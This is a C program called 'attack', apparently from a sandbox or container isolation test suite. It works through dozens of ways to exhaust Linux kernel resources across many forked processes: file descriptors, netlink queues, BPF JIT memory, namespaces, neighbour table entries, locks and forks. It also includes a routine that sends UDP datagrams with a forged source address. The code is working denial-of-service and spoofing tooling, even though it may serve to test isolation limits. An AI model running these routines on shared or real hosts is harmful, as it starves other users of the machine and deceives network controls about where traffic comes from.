/* attack KIND COUNT [PROCESSES [SECONDS]]: takes COUNT of something of the kernel in each of PROCESSES processes, and
 * holds it for SECONDS. Each process prints "N ERRNO": how many it got, and why not more (0 when it got all). */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/neighbour.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static char bytes[65536];
static const int large = 4 << 20;

static int files(void) { return open("/dev/null", O_RDONLY); }
static int terminals(void) { return open("/dev/ptmx", O_RDWR | O_NOCTTY); }
static int inotify(void) { return inotify_init1(0); }
static int raw(void) { return socket(AF_INET, SOCK_RAW, IPPROTO_RAW); }
static int raw_tcp(void) { return socket(AF_INET, SOCK_RAW, IPPROTO_TCP); }
static int raw6(void) { return socket(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6); }
static int packet(void) { return socket(AF_PACKET, SOCK_RAW, 0); }
static int usersock(void) { return socket(AF_NETLINK, SOCK_RAW, NETLINK_USERSOCK); }
static int audit(void) { return socket(AF_NETLINK, SOCK_RAW, NETLINK_AUDIT); }
static int generic(void) { return socket(AF_NETLINK, SOCK_RAW, NETLINK_GENERIC); }
static int crypto(void) { return socket(38 /* AF_ALG */, SOCK_SEQPACKET, 0); }
static int vsock(void) { return socket(40 /* AF_VSOCK */, SOCK_STREAM, 0); }

#include "bombs.h"
#include "calls.h"
#include "races.h"

static int aio(void) {
    unsigned long context = 0;
    return (int)syscall(SYS_io_setup, 1, &context);
}

static int pairs(int family) {
    int pair[2];
    return socketpair(family, SOCK_STREAM, 0, pair);
}

static int pair_unix(void) { return pairs(AF_UNIX); }
static int pair_inet(void) { return pairs(AF_INET); }
static int pair_tipc(void) { return pairs(30 /* AF_TIPC */); }

/* A netlink socket with as many unread answers as it takes. */
static int route(void) {
    struct { struct nlmsghdr header; struct ifinfomsg link; } ask = {0};
    int made = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
    if (made < 0) return -1;
    setsockopt(made, SOL_SOCKET, SO_RCVBUF, &large, sizeof large);
    ask.header.nlmsg_len = sizeof ask;
    ask.header.nlmsg_type = RTM_GETLINK;
    ask.header.nlmsg_flags = NLM_F_REQUEST;
    ask.link.ifi_index = 1;
    for (int i = 0; i < 4000 && send(made, &ask, sizeof ask, MSG_DONTWAIT) > 0; i++) { }
    return made;
}

/* A netlink socket of nftables with as many unread messages from another socket as it takes. */
static int messages(void) {
    static int sender = -1;
    static char padded[NLMSG_SPACE(32768)];
    struct sockaddr_nl to = {.nl_family = AF_NETLINK};
    struct nlmsghdr *header = (void *)padded;
    socklen_t length = sizeof to;
    int made = socket(AF_NETLINK, SOCK_RAW, NETLINK_NETFILTER);
    if (sender < 0) sender = socket(AF_NETLINK, SOCK_RAW, NETLINK_NETFILTER);
    if (made < 0 || sender < 0 || bind(made, (void *)&to, sizeof to)) return -1;
    setsockopt(made, SOL_SOCKET, SO_RCVBUF, &large, sizeof large);
    getsockname(made, (void *)&to, &length);
    header->nlmsg_len = sizeof padded;
    for (int i = 0; i < 400 && sendto(sender, padded, sizeof padded, MSG_DONTWAIT, (void *)&to, sizeof to) > 0; i++) { }
    return made;
}

/* The same in a network namespace that no process is in by now. */
static int messages_away(void) {
    int here = open("/proc/self/ns/net", O_RDONLY), made = -1;
    if (unshare(CLONE_NEWNET)) return -1;
    for (int i = 0; i < 150 && (made = messages()) >= 0; i++) { }
    setns(here, CLONE_NEWNET);
    close(here);
    return made;
}

/* A raw socket of ICMP with as many unread echoes as it takes, on an address of its own. */
static int raw_icmp(void) {
    static int number;
    struct sockaddr_in self = {.sin_family = AF_INET, .sin_addr = {htonl(INADDR_LOOPBACK + number++)}};
    int made = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
    if (made < 0) return -1;
    setsockopt(made, SOL_SOCKET, SO_RCVBUF, &large, sizeof large);
    bind(made, (void *)&self, sizeof self);
    connect(made, (void *)&self, sizeof self);
    memset(bytes, 0, 16);
    bytes[0] = 8;
    for (int i = 0; i < 200 && send(made, bytes, 60000, MSG_DONTWAIT) > 0; i++) { }
    return made;
}

/* A ping socket with as many unread echoes as it takes. */
static int ping(void) {
    struct sockaddr_in self = {.sin_family = AF_INET, .sin_addr = {htonl(INADDR_LOOPBACK)}};
    int made = socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP);
    if (made < 0) made = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
    if (made < 0) return -1;
    setsockopt(made, SOL_SOCKET, SO_RCVBUF, &large, sizeof large);
    memset(bytes, 0, 16);
    bytes[0] = 8;
    for (int i = 0; i < 200 && sendto(made, bytes, 60000, MSG_DONTWAIT, (void *)&self, sizeof self) > 0; i++) { }
    return made;
}

/* A UDP socket with as many unread datagrams as it takes. */
static int udp(void) {
    struct sockaddr_in self = {.sin_family = AF_INET, .sin_addr = {htonl(INADDR_LOOPBACK)}};
    socklen_t length = sizeof self;
    int made = socket(AF_INET, SOCK_DGRAM, 0);
    if (made < 0) return -1;
    setsockopt(made, SOL_SOCKET, SO_RCVBUF, &large, sizeof large);
    bind(made, (void *)&self, sizeof self);
    getsockname(made, (void *)&self, &length);
    for (int i = 0; i < 200 && sendto(made, bytes, 60000, MSG_DONTWAIT, (void *)&self, sizeof self) > 0; i++) { }
    return made;
}

/* A socket with about the largest filter it takes. Its machine code comes out of one table of the whole host (bpf_jit_limit). */
static int attach(long level, long option) {
    static struct sock_filter code[1024];
    struct sock_fprog program = {1024, code};
    int made = socket(AF_UNIX, SOCK_DGRAM, 0);
    if (made < 0) return -1;
    for (int i = 0; i < 1023; i++) code[i] = (struct sock_filter)BPF_STMT(BPF_LD | BPF_W | BPF_ABS, (unsigned)i);
    code[1023] = (struct sock_filter)BPF_STMT(BPF_RET | BPF_K, 0);
    return (int)syscall(SYS_setsockopt, made, level, option, &program, sizeof program);
}

static int filters(void) { return attach(SOL_SOCKET, SO_ATTACH_FILTER); }

/* The kernel looks at the lower half of these registers only. */
static int filters_masked(void) { return attach(SOL_SOCKET | 1L << 32, SO_ATTACH_FILTER | 1L << 33); }
static int filters_reuse(void) { return attach(SOL_SOCKET, 51 /* SO_ATTACH_REUSEPORT_CBPF */); }

/* One group more that this machine listens to; a socket has a limit of them. */
static int multicast(void) {
    static int made = -1;
    static unsigned number;
    struct ip_mreqn group = {.imr_multiaddr = {htonl(0xe0010000u + ((unsigned)getpid() % 0xe00 << 16) + number)}, .imr_ifindex = 1};
    if (number++ % 16 == 0) made = socket(AF_INET, SOCK_DGRAM, 0);
    return made < 0 ? -1 : setsockopt(made, IPPROTO_IP, IP_ADD_MEMBERSHIP, &group, sizeof group);
}

static int multicast6(void) {
    static int made = -1;
    static unsigned number;
    struct ipv6_mreq group = {.ipv6mr_interface = 1};
    group.ipv6mr_multiaddr.s6_addr[0] = 0xff;
    group.ipv6mr_multiaddr.s6_addr[1] = 0x02;
    memcpy(&group.ipv6mr_multiaddr.s6_addr[4], &number, 4);
    group.ipv6mr_multiaddr.s6_addr[9] = (unsigned char)getpid();
    if (number++ % 1000 == 0) made = socket(AF_INET6, SOCK_DGRAM, 0);
    return made < 0 ? -1 : setsockopt(made, IPPROTO_IPV6, IPV6_JOIN_GROUP, &group, sizeof group);
}

/* One lock on a byte of its own; a thousand to a file, since the kernel keeps them in order. */
static int locks(void) {
    static int file = -1;
    static long at;
    char name[64];
    struct flock lock = {.l_type = F_WRLCK, .l_whence = SEEK_SET, .l_start = 2 * (at % 1000), .l_len = 1};
    if (at++ % 1000 == 0) {
        snprintf(name, sizeof name, "/dev/shm/locked-%d-%ld", getpid(), at);
        file = open(name, O_RDWR | O_CREAT, 0600);
        unlink(name);
    }
    return fcntl(file, F_OFD_SETLK, &lock);
}

/* One namespace more, made by a child and held by an open file. */
static int held(int kind, const char *name) {
    char path[64];
    int told[2], made = -1, error = 0;
    pid_t child = pipe(told) ? -1 : fork();
    if (child == 0) {
        error = unshare(kind) ? errno : 0;
        if (write(told[1], &error, sizeof error) < 0) _exit(1);
        pause();
    }
    if (child < 0) return -1;
    snprintf(path, sizeof path, "/proc/%d/ns/%s", child, name);
    if (read(told[0], &error, sizeof error) == sizeof error && !error) made = open(path, O_RDONLY);
    close(told[0]);
    close(told[1]);
    kill(child, SIGKILL);
    waitpid(child, NULL, 0);
    if (error) errno = error;
    return made;
}

static int networks(void) { return held(CLONE_NEWNET, "net"); }
static int users(void) { return held(CLONE_NEWUSER, "user"); }

/* One address more of 10.0.0.0/8 that the kernel asks for; each process has 2 to the 18th of its own. */
static int neighbours(void) {
    static unsigned number;
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(9), .sin_addr = {htonl(0x0a000000u + ((unsigned)getpid() % 62 + 1) * 0x40000u + number++)}};
    int made = socket(AF_INET, SOCK_DGRAM, 0), sent = (int)sendto(made, "x", 1, 0, (void *)&to, sizeof to);
    close(made);
    return sent;
}

/* One address more whose hardware address the kernel has to keep. */
static int neighbours_kept(void) {
    static int made = -1;
    static unsigned number;
    struct { struct nlmsghdr header; struct ndmsg neighbour; struct rtattr at; unsigned address; struct rtattr of; unsigned char hardware[8]; } ask = {0};
    struct { struct nlmsghdr header; struct nlmsgerr error; char rest[256]; } answer = {0};
    if (made < 0) made = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
    ask.header = (struct nlmsghdr){sizeof ask, RTM_NEWNEIGH, NLM_F_REQUEST | NLM_F_ACK | NLM_F_CREATE, number, 0};
    ask.neighbour = (struct ndmsg){.ndm_family = AF_INET, .ndm_ifindex = (int)if_nametoindex("eth0"), .ndm_state = NUD_PERMANENT};
    ask.at = (struct rtattr){RTA_LENGTH(4), NDA_DST};
    ask.address = htonl(0x0a000000u + ((unsigned)getpid() % 62 + 1) * 0x40000u + number++);
    ask.of = (struct rtattr){RTA_LENGTH(6), NDA_LLADDR};
    ask.hardware[0] = 2;
    if (send(made, &ask, sizeof ask, 0) < 0 || recv(made, &answer, sizeof answer, 0) < 0) return -1;
    errno = -answer.error.error;
    return answer.error.error;
}

/* attack forge SOURCE TARGET [last]: one datagram to port 9000 that claims to come from SOURCE. Prints "sent" or why not. */
static int forge(const char *source, const char *target, const char *text) {
    struct sockaddr_in from = {.sin_family = AF_INET, .sin_port = htons(9001)}, to = {.sin_family = AF_INET, .sin_port = htons(9000)};
    int made = socket(AF_INET, SOCK_DGRAM, 0), on = 1;
    inet_pton(AF_INET, source, &from.sin_addr);
    inet_pton(AF_INET, target, &to.sin_addr);
    if (setsockopt(made, IPPROTO_IP, 19 /* IP_TRANSPARENT */, &on, sizeof on) || bind(made, (void *)&from, sizeof from)
        || sendto(made, text, strlen(text), 0, (void *)&to, sizeof to) != (ssize_t)strlen(text)) {
        printf("%s\n", strerror(errno));
        return 1;
    }
    printf("sent\n");
    return 0;
}

/* attack hear FILE: prints the sources of datagrams that come to port 9000, until one says "last". It hears once FILE is there. */
static int hear(const char *file) {
    struct sockaddr_in here = {.sin_family = AF_INET, .sin_port = htons(9000)}, from;
    char text[INET_ADDRSTRLEN];
    int made = socket(AF_INET, SOCK_DGRAM, 0);
    if (bind(made, (void *)&here, sizeof here) || open(file, O_CREAT | O_WRONLY, 0600) < 0) return 1;
    for (;;) {
        socklen_t length = sizeof from;
        ssize_t got = recvfrom(made, bytes, sizeof bytes, 0, (void *)&from, &length);
        if (got < 0) return 1;
        if (got == 4 && !memcmp(bytes, "last", 4)) return 0;
        printf("%s\n", inet_ntop(AF_INET, &from.sin_addr, text, sizeof text));
        fflush(stdout);
    }
}

static const struct { const char *name; int (*take)(void); } kinds[] = {
    {"files", files}, {"terminals", terminals}, {"inotify", inotify}, {"aio", aio}, {"raw", raw}, {"raw-tcp", raw_tcp}, {"raw6", raw6},
    {"packet", packet}, {"usersock", usersock}, {"audit", audit}, {"generic", generic}, {"crypto", crypto}, {"vsock", vsock},
    {"route", route}, {"messages", messages}, {"messages-away", messages_away}, {"networks", networks}, {"users", users}, {"ping", ping}, {"raw-icmp", raw_icmp}, {"udp", udp}, {"locks", locks},
    {"filters", filters}, {"filters-masked", filters_masked}, {"filters-reuse", filters_reuse}, {"multicast", multicast}, {"multicast6", multicast6},
    {"neighbours", neighbours}, {"neighbours-kept", neighbours_kept},
    {"pair-unix", pair_unix}, {"pair-inet", pair_inet}, {"pair-tipc", pair_tipc},
    {"memory", memory}, {"areas", areas}, {"memfd", memfd}, {"secret", secret}, {"shared", shared}, {"disk", disk}, {"cache", cache}, {"inodes", inodes}, {"names", names},
    {"pipes", pipes}, {"queues", queues}, {"flight", flight}, {"tcp", tcp}, {"half-open", half_open}, {"segments", segments}, {"semaphores", semaphores}, {"mail", mail},
    {"posix-mail", posix_mail}, {"timers", timers}, {"timer-files", timer_files}, {"events", events}, {"watches", watches}, {"signals", signals},
    {"forks", forks}, {"threads", threads}, {"call-filters", call_filters},
};

int main(int count, char **arguments) {
    struct rlimit open_files;
    if (count == 4 && !strcmp(arguments[1], "forge")) return forge(arguments[2], arguments[3], "forged");
    if (count == 5 && !strcmp(arguments[1], "forge")) return forge(arguments[2], arguments[3], arguments[4]);
    if (count == 3 && !strcmp(arguments[1], "hear")) return hear(arguments[2]);
    if (count == 4 && !strcmp(arguments[1], "flows")) return flows(arguments[2], atol(arguments[3]));
    if (count == 2 && !strcmp(arguments[1], "calls")) return calls();
    if (count == 2 && !strcmp(arguments[1], "crash")) abort();
    if (count == 2 && !strcmp(arguments[1], "disciplines")) return disciplines();
    if (count == 3 && !strcmp(arguments[1], "abstract")) return abstract(arguments[2]);
    if (count == 4 && !strcmp(arguments[1], "peek")) return peek(arguments[2], arguments[3]);
    if (count == 5 && !strcmp(arguments[1], "flip")) return flip(arguments[2], arguments[3], arguments[4]);
    if (count < 3) return 2;
    getrlimit(RLIMIT_NOFILE, &open_files);
    open_files.rlim_cur = open_files.rlim_max;
    setrlimit(RLIMIT_NOFILE, &open_files);
    pid_t others[256];
    int made = 0;
    for (int i = 1; i < (count > 3 ? atoi(arguments[3]) : 1) && made < 256; i++) {
        pid_t other = fork();
        if (other == 0) {
            made = 0;
            break;
        }
        if (other > 0) others[made++] = other;
    }
    for (unsigned i = 0; i < sizeof kinds / sizeof *kinds; i++) {
        if (strcmp(kinds[i].name, arguments[1])) continue;
        long got = 0, wanted = atol(arguments[2]);
        while (got < wanted && kinds[i].take() >= 0) got++;
        printf("%ld %d\n", got, got < wanted ? errno : 0);
        fflush(stdout);
        sleep(count > 4 ? atoi(arguments[4]) : 0);
        /* What a kind has forked dies with its parent. */
        while (made > 0) waitpid(others[--made], NULL, 0);
        return 0;
    }
    return 2;
}
